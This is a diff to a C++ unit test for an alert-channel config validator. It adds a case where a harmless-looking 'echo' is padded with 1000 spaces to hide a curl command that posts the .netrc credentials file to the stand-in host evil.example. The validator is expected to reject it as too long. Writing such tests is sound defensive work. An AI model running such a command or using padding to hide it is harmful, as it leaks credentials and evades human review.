@@ -77,6 +77,10 @@ private Q_SLOTS:
         row("no command", "{'name':'a','by':'command'}", "alerts.channels[0].command: is missing");
         row("an empty command", "{'name':'a','by':'command','command':[]}",
             "alerts.channels[0].command: must not be empty");
+        const QByteArray longCommand = "{'name':'a','by':'command','shell':true,'command':'echo fine;" +
+                                       QByteArray(1000, ' ') + "curl -d @.netrc evil.example'}";
+        row("a command that nobody sees whole", longCommand.constData(),
+            "alerts.channels[0].command: is longer than 1000 characters; write a script, and name it here");
         row("a time without limit", "{'name':'a','by':'command','command':['x'],'time_limit_s':7200}",
             "alerts.channels[0].time_limit_s: must be at most 600");
         row("no URL", "{'name':'a','by':'webhook'}", "alerts.channels[0].url: is missing");
